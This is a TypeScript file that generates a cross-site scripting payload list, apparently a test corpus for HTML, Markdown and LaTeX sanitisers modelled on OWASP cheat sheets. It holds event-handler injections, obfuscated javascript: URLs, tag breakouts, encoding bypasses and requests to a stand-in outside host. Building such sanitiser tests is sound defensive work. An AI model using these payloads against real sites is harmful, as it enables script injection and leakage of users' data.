/** Attempts at running a script or asking another host, after the cheat sheets of OWASP and HTML5 security and the tests of sanitisers. */

/** Counts what runs. */
const run = 'probe()';
const host = 'https://elsewhere.example/';

const events =
  'abort animationend beforetoggle blur canplay click error focus input load loadstart mouseover pointerenter scroll toggle'.split(
    ' ',
  );
const elements =
  'a audio body br button details div form frameset h2 iframe img input marquee math object p select style summary svg table video'.split(
    ' ',
  );
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,<script>parent.probe()</script>',
  'javascript://%0a',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:javascript:',
];
const carriers = [
  '<a href="URL">x</a>',
  '<iframe src="URL"></iframe>',
  '<form action="URL"><button>x</button></form>',
  '<svg><a xlink:href="URL"><text>x</text></a></svg>',
];

export const payloads: readonly string[] = [
  ...elements.flatMap((name, index) =>
    [0, 5, 10].map(
      (step) => `<${name} on${events[(index + step) % events.length]}=${run} autofocus tabindex=1 src=x>x</${name}>`,
    ),
  ),
  ...schemes.flatMap((scheme) => carriers.map((carrier) => carrier.replace('URL', `${scheme}${run}`))),
  ...schemes.map((scheme) => `[x](<${scheme.replace(/[\t\n]/g, '')}${run}>)`),
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src=${host}1.js></script>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--></style></textarea><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `" onfocus="${run}" autofocus="`,
  `' onmouseover='${run}`,
  `<img src=x:x onerror=${run}//`,
  `<img/src/onerror=${run}>`,
  `<<img src=x onerror=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<base href="${host}">`,
  `<link rel=stylesheet href="${host}x.css">`,
  `<style>@import "${host}y.css"; body { background: url(${host}z) }</style>`,
  `<div style="background:url(${host}s)">x</div>`,
  `<img src="${host}i.png">`,
  `![x](${host}m.png)`,
  `<video poster="${host}p.png" src="${host}v.mp4" autoplay></video>`,
  `<img srcset="${host}a.png 1x, ${host}b.png 2x">`,
  `<table background="${host}t.png"><td>x</td></table>`,
  `<a href="x" ping="${host}ping">x</a>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input type=image src=${host}in.png formaction=javascript:${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\\href{javascript:${run}}{x}`,
  `\\htmlData{onclick=${run}}{x}`,
  `\\includegraphics{${host}tex.png}`,
  `<p id=main><p id=__proto__ name=cookie>x`,
];
